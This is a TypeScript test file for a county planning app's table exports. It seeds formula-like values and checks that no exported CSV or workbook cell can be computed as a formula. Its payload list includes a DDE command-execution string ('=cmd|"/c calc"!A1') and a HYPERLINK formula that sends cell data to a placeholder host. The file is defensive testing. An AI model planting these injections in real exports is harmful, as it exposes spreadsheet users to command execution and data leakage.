/** No table that leaves the program holds a cell that a spreadsheet would compute. */
import { endpoints } from '@qingzhuang/contract';
import { read, type CellObject } from '@e965/xlsx';
import { sql } from 'kysely';
import { expect, test } from 'vitest';
import { installStarter } from '../features/catalogue/elements/operations.ts';
import { insertUnits } from '../features/organisations/index.ts';
import { useTestApp } from '../testing/app.ts';
import { act, actorFor, openCounty } from '../testing/county-world.ts';

const testApp = await useTestApp();
const world = await openCounty(testApp, '130102');
const { units } = world;
const administrator = await world.actor('administrator', units.county);
const YEAR = 2026;

const FORMULAS = [
  ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1', '＋1', '－1', '＠1', "'=1"],
  ...['=cmd|"/c calc"!A1', '=HYPERLINK("http://x.example?"&A1,"点我")', '甲,=1', '甲"\n=1', '甲;=1'],
];

/** As if they had come in before anything was refused. */
await act(world, actorFor('administrator', units.county), async ({ db }) => {
  await insertUnits(
    db,
    world.code,
    FORMULAS.map((name, index) => ({
      ...({ code: `${world.code}000${200 + index}`, name, nature: 'department', foundedOn: null } as const),
    })),
  );
});
await testApp.owner
  .insertInto('planItem')
  .values(
    FORMULAS.flatMap((text, index) => {
      const item = {
        county: world.code,
        year: YEAR,
        kind: 'task',
        month: null,
        issuer: units.bureau,
        count: 1,
      } as const;
      const made = { ...item, minutes: 60, person: administrator.person, changedAt: '2026-03-05T02:00:00Z' };
      return [
        { ...made, number: `名称 ${index}`, title: text },
        { ...made, number: text, title: `编号 ${index}` },
      ];
    }),
  )
  .execute();

await act(world, actorFor('office', units.office), installStarter);
for (const [index, text] of FORMULAS.entries()) {
  await sql`
    update element set definition = ${text}
    where county = ${world.code} and key = (
      select key from element where county = ${world.code} order by key offset ${index} limit 1
    )`.execute(testApp.owner);
}

/** Every address that gives a table, by the ending of its path. */
const exports = Object.entries(endpoints)
  .map(([name, { path }]) => ({ name, path, format: /\.(csv|xlsx|xls|ods)$/u.exec(path)?.[1] }))
  .filter(({ format }) => format !== undefined);

async function fetchTable(path: string): Promise<Uint8Array> {
  const query = path.includes('/plan-items/') ? `?year=${YEAR}` : '';
  const response = await testApp.app.request(`${path}${query}`, { headers: { cookie: administrator.cookie } });
  expect(response.status).toBe(200);
  return new Uint8Array(await response.arrayBuffer());
}

/** The fields of a table by RFC 4180; throws on text outside of quotes where none may stand. */
function fieldsOf(csv: string): string[] {
  const records = csv.replace(/^\ufeff/u, '');
  const fields = Array.from(records.matchAll(/("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n|$)/gu));
  expect(fields.map(([whole]) => whole).join('')).toBe(records);
  return fields.map(([, field = '']) => (field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field));
}

const BEGINS_A_FORMULA = /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u;

test('the contract has seven tables to take away, and nothing else is sent as one', () => {
  expect(exports.map(({ name }) => name).toSorted()).toEqual([
    ...['exportElementWorkbook', 'exportElements', 'exportPlan', 'exportPlanWorkbook', 'exportReuse'],
    ...['exportUnitWorkbook', 'exportUnits'],
  ]);
  const separated = Object.entries(endpoints).filter(([, { media }]) => media === 'text/csv');
  expect(separated.map(([name]) => name).toSorted()).toEqual([
    ...['exportElements', 'exportPlan', 'exportReuse', 'exportUnits'],
  ]);
});

test.each(exports.filter(({ format }) => format === 'csv'))('no cell of $name begins a formula', async ({ path }) => {
  const fields = fieldsOf(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await fetchTable(path)));

  expect(fields.filter((field) => BEGINS_A_FORMULA.test(field))).toEqual([]);
  // No form has been sent in this county: the account of reuse holds what the program says.
  if (path.endsWith('/reuse.csv')) return;
  expect(FORMULAS.filter((text) => !fields.some((field) => field === text || field === `'${text}`))).toEqual([]);
});

test.each(exports.filter(({ format }) => format !== 'csv'))('every cell of $name is a text', async ({ path }) => {
  const { Sheets, SheetNames } = read(await fetchTable(path), { cellFormula: true });
  const cells = SheetNames.flatMap((name) => {
    const sheet = Sheets[name] ?? {};
    const addresses = Object.keys(sheet).filter((address) => !address.startsWith('!'));
    return addresses.map((address) => sheet[address] as CellObject);
  });

  expect(cells.filter(({ t, f }) => t !== 's' || f !== undefined)).toEqual([]);
  const texts = new Set(cells.map(({ v }) => v));
  expect(FORMULAS.filter((text) => !texts.has(text))).toEqual([]);
});
